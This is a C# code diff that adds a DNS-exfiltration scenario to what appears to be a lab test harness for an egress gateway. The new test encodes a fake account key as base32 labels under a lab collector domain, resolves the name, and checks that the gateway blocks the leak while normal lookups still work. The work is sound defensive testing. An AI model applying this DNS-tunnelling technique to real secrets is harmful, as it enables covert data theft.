@@ -28,6 +28,7 @@ internal static class ScenarioPlays
         "domain-fronting" => FrontingAsync(s, c, ct),
         "dns-rebinding" => RebindingAsync(s, c, ct),
         "watch-then-enforce" => WatchThenEnforceAsync(s, c, ct),
+        "dns-exfiltration" => DnsExfiltrationAsync(s, c, ct),
         _ => throw new InvalidOperationException($"no play for {s.Id}"),
     };
 
@@ -193,6 +194,42 @@ internal static class ScenarioPlays
         var passed = watched.Ok && watchedRecord is not null && afterWatch > before && enforced.Refused && leakedAfterPromotion == 0 && Rule(enforcedRecord) == rule;
         return Result(s, c, $"watch: {watched.Describe()}, logged enforced=false; promoted: {enforced.Describe()}", Rule(enforcedRecord), false, leakedAfterPromotion, passed,
             $"{replayNote}; {afterWatch - before} bytes reached the collector while watched; {leakedAfterPromotion} after promotion");
+    }
+
+    /// <summary>
+    /// The agent encodes a secret in base32 labels under the collector's domain and asks its resolver (the gateway) for
+    /// it; the name server behind the gateway must never see the name, while a platform name still resolves.
+    /// </summary>
+    private static async Task<ScenarioResult> DnsExfiltrationAsync(Scenario s, ScenarioContext c, CancellationToken ct)
+    {
+        var secret = Base32Lower(Encoding.UTF8.GetBytes("AccountKey=lab-secret-Q3-revenue"));
+        var exfilName = $"{secret}.{LabHosts.Collector.Name}";
+        var exfil = await c.Resolver.ResolveAsync(exfilName, ct);
+        var platform = await c.Resolver.ResolveAsync(LabHosts.Login.Name, ct);
+        var record = await WaitFor(() => c.Records.LastOrDefault(r => r.Event == FlowEvent.Dns && r.Host == exfilName));
+        var leaked = c.NameServer.Questions.Where(q => q.Name == LabHosts.Collector.Name || q.Name.EndsWith("." + LabHosts.Collector.Name)).ToList();
+        var platformReached = c.NameServer.Questions.Any(q => q.Name == LabHosts.Login.Name);
+        var passed = exfil?.ResponseCode == 3 && leaked.Count == 0 && record?.Dns?.Answered == false && record.Dns.Rule == s.ExpectedRule &&
+                     platform?.ResponseCode == 0 && platform.Addresses.Contains(c.Network.AddressOf(LabHosts.Login)) && platformReached;
+        var flags = record?.Dns?.Flags is { Count: > 0 } f ? $" (flagged {string.Join(", ", f)})" : "";
+        return Result(s, c, $"resolver {c.Resolver.EndPoint}: {exfilName[..12]}….{LabHosts.Collector.Name} -> {exfil?.Describe() ?? "no answer"}{flags}; " +
+                            $"{LabHosts.Login.Name} -> {platform?.Describe() ?? "no answer"}", record?.Dns?.Rule, false, leaked.Sum(q => q.Bytes), passed,
+            $"the name server behind the gateway received {c.NameServer.Questions.Count} question(s), {leaked.Count} under {LabHosts.Collector.Name}");
+    }
+
+    private static string Base32Lower(byte[] data)
+    {
+        const string alphabet = "abcdefghijklmnopqrstuvwxyz234567";
+        var text = new StringBuilder();
+        int buffer = 0, bits = 0;
+        foreach (var b in data)
+        {
+            buffer = (buffer << 8) | b;
+            bits += 8;
+            while (bits >= 5) { text.Append(alphabet[(buffer >> (bits - 5)) & 31]); bits -= 5; }
+        }
+        if (bits > 0) text.Append(alphabet[(buffer << (5 - bits)) & 31]);
+        return text.ToString();
     }
 
     // ---- helpers ---------------------------------------------------------------------------------------------
